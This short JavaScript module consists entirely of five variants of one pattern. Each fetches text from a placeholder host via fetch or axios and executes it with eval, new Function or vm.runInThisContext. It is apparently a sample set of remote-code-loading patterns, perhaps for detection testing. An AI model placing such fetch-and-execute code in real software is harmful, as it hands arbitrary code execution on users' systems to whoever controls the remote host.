import vm from 'node:vm';
import axios from 'axios';

const answer = await fetch('https://stage.acme-cdn.example/s');
eval(await answer.text());
fetch('https://stage.acme-cdn.example/r').then((reply) => reply.text()).then(eval);
fetch('https://stage.acme-cdn.example/q').then((reply) => reply.text()).then((text) => new Function(text)());
const { data } = await axios.get('https://stage.acme-cdn.example/t');
new Function(data)();
vm.runInThisContext((await axios.get('https://stage.acme-cdn.example/u')).data.code);
